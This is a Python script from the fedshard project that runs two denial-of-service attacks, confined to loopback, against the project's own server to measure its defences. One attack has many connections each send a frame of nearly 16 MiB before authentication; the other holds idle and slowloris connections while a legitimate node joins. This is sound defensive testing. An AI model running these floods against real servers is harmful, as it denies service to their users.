#!/usr/bin/env python3
"""Attacks on a `fedshard serve` node from peers holding neither the secret nor a certificate,
for the before/after figures of docs/cluster.md (issue 25). Loopback only.

  scripts/preauth_attack.py memory [--bin target/debug/fedshard] [--attackers 50]
      A plaintext server; each attacker sends a length prefix just under ractor_cluster's
      16 MiB frame cap and then that many bytes but one, and holds the connection.
      Prints the server's VmRSS before, its peak (VmHWM) and VmRSS after.

  scripts/preauth_attack.py stall [--bin target/debug/fedshard] [--idle 100] [--slowloris 100]
      A TLS server; `idle` connections send nothing, `slowloris` ones send a TLS record header
      and then one byte a second. Then a legitimate node joins, hosting every client:
      prints how long until the server logs its session authenticated, and until it exits.

The federation is --config (default config/digits-linear.toml, 20 clients) for one round.
"""

import argparse
import os
import socket
import subprocess
import sys
import tempfile
import threading
import time

SECRET = "preauth-attack-secret-0123456789abcdef"
CAP = 16 * 1024 * 1024



def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def attacker(i, port, timeout=None):
    """Attacker i's connection, from 127.0.0.(2 + i // 10): ten to an address, under the
    per-address limit, and never from the legitimate node's 127.0.0.1."""
    s = socket.socket()
    s.settimeout(timeout)
    s.bind((f"127.0.0.{2 + i // 10}", 0))
    s.connect(("127.0.0.1", port))
    return s


def status_kb(pid, field):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith(field + ":"):
                return int(line.split()[1])
    return 0


def wait_listening(port, proc, log):
    started = time.time()
    while time.time() - started < 60:
        if proc.poll() is not None:
            sys.exit(f"the server exited: {open(log).read()}")
        if "listening for client nodes" in open(log).read():
            return
        time.sleep(0.05)
    sys.exit("the server did not start listening in 60 s")


def setup(tmp):
    secret = os.path.join(tmp, "secret")
    with open(secret, "w") as f:
        f.write(SECRET + "\n")
    os.chmod(secret, 0o600)
    return secret


def serve(args, tmp, secret, port, extra):
    log = os.path.join(tmp, "serve.log")
    cmd = [args.bin, "serve", args.config, "--rounds", "1", "--listen", f"127.0.0.1:{port}", "--out",
           os.path.join(tmp, "run"), "--secret-file", secret, "--metrics-addr", "off"] + extra
    proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=open(log, "w"))
    wait_listening(port, proc, log)
    return proc, log


def memory(args):
    with tempfile.TemporaryDirectory() as tmp:
        secret = setup(tmp)
        port = free_port()
        server, _ = serve(args, tmp, secret, port, [])
        try:
            time.sleep(1.0)
            before = status_kb(server.pid, "VmRSS")
            chunk = b"\xab" * (1 << 16)
            socks = []

            def attack(i):
                s = attacker(i, port)
                socks.append(s)
                try:
                    s.sendall((CAP - 8).to_bytes(8, "big"))
                    left = CAP - 9
                    while left > 0:
                        n = min(left, len(chunk))
                        s.sendall(chunk[:n])
                        left -= n
                except OSError:
                    pass  # refused: the server closed the connection

            threads = [threading.Thread(target=attack, args=(i,)) for i in range(args.attackers)]
            started = time.time()
            for t in threads:
                t.start()
            peak = before
            while any(t.is_alive() for t in threads) and time.time() - started < 120:
                peak = max(peak, status_kb(server.pid, "VmRSS"))
                time.sleep(0.1)
            time.sleep(2.0)
            after = status_kb(server.pid, "VmRSS")
            hwm = status_kb(server.pid, "VmHWM")
            print(f"{args.attackers} attackers, {CAP - 8}-byte prefix: VmRSS before {before / 1024:.0f} MB, "
                  f"peak sampled {max(peak, after) / 1024:.0f} MB, VmHWM {hwm / 1024:.0f} MB, "
                  f"after 2 s {after / 1024:.0f} MB, sends finished in {time.time() - started - 2:.1f} s")
            for s in socks:
                s.close()
        finally:
            server.kill()
            server.wait()


def stall(args):
    with tempfile.TemporaryDirectory() as tmp:
        secret = setup(tmp)
        certs = os.path.join(tmp, "certs")
        subprocess.run([args.bin, "cert", "--names", "127.0.0.1,localhost", "--out", certs],
                       check=True, stderr=subprocess.DEVNULL)
        port = free_port()
        server, log = serve(args, tmp, secret, port,
                            ["--tls-cert", os.path.join(certs, "node.pem"),
                             "--tls-key", os.path.join(certs, "node-key.pem")] + args.serve_extra)
        socks = []
        slow = []
        stop = threading.Event()
        try:
            def connect(i):
                try:
                    s = attacker(i, port, timeout=2)
                    s.settimeout(None)
                    return s
                except OSError:
                    return None  # the server's accept queue is full

            for i in range(args.idle):
                socks.append(connect(i))
            for i in range(args.idle, args.idle + args.slowloris):
                s = connect(i)
                if s is not None:
                    s.sendall(b"\x16\x03\x01")  # a TLS handshake record header, cut short
                slow.append(s)
            opened = sum(s is not None for s in socks + slow)
            socks = [s for s in socks if s is not None]
            slow = [s for s in slow if s is not None]

            def drip():
                while not stop.wait(1.0):
                    for s in slow:
                        try:
                            s.send(b"\x01")
                        except OSError:
                            pass

            dripper = threading.Thread(target=drip, daemon=True)
            dripper.start()
            time.sleep(0.5)
            join_log = os.path.join(tmp, "join.log")
            started = time.time()
            join = subprocess.Popen(
                [args.bin, "join", args.config, "--server", f"127.0.0.1:{port}", "--clients", args.clients,
                 "--secret-file", secret, "--tls-ca", os.path.join(certs, "ca.pem")],
                stdout=subprocess.DEVNULL, stderr=open(join_log, "w"))
            authenticated = None
            while time.time() - started < args.patience:
                if authenticated is None and any(
                        line.rstrip().endswith(" authenticated") for line in open(log)):
                    authenticated = time.time() - started
                if join.poll() is not None:
                    break
                time.sleep(0.05)
            ended = time.time() - started
            code = join.poll()
            if code is None:
                join.kill()
                join.wait()
            auth = f"{authenticated:.2f} s" if authenticated is not None else "never"
            print(f"{args.idle} idle + {args.slowloris} slowloris connections ({opened} opened): join authenticated "
                  f"after {auth}; join exited with {code} after {ended:.2f} s")
            if code != 0:
                print("join log tail:", open(join_log).read()[-400:])
        finally:
            stop.set()
            for s in socks + slow:
                s.close()
            server.kill()
            server.wait()


def main():
    p = argparse.ArgumentParser()
    p.add_argument("mode", choices=["memory", "stall"])
    p.add_argument("--bin", default="target/debug/fedshard")
    p.add_argument("--config", default="config/digits-linear.toml")
    p.add_argument("--clients", default="0-19", help="every client of --config")
    p.add_argument("--attackers", type=int, default=50)
    p.add_argument("--idle", type=int, default=100)
    p.add_argument("--slowloris", type=int, default=100)
    p.add_argument("--patience", type=float, default=60.0)
    p.add_argument("--serve-extra", nargs="*", default=[])
    args = p.parse_args()
    memory(args) if args.mode == "memory" else stall(args)


if __name__ == "__main__":
    main()
